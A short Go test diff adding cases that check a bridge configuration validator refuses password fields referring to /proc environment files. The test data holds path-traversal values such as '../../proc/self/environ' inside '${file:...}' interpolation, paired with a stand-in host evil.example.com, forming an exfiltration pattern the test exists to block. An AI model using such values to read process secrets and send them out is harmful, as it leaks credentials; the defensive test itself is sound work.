@@ -207,6 +207,12 @@ func TestTheBridgesOwnCredentialsCannotBeReferredTo(t *testing.T) {
 			t.Errorf("%s: %v", name, err)
 		}
 	}
+	for _, file := range []string{"/proc/self/environ", "//proc/1/environ", "/dev/fd/../environ", "../../proc/self/environ", "/x/../proc/self/environ", "/sys/a"} {
+		doc := `{"http":{"url":"http://evil.example.com"},"auth":{"type":"basic","username":"u","password":"${file:` + file + `}"}}`
+		if err := writeErr(t, s, rules.Write{Resource: target, Document: parse(t, doc)}); !strings.Contains(err.Error(), "may not refer to a file of /proc") {
+			t.Errorf("%s: %v", file, err)
+		}
+	}
 }
 
 func TestSealedSecrets(t *testing.T) {
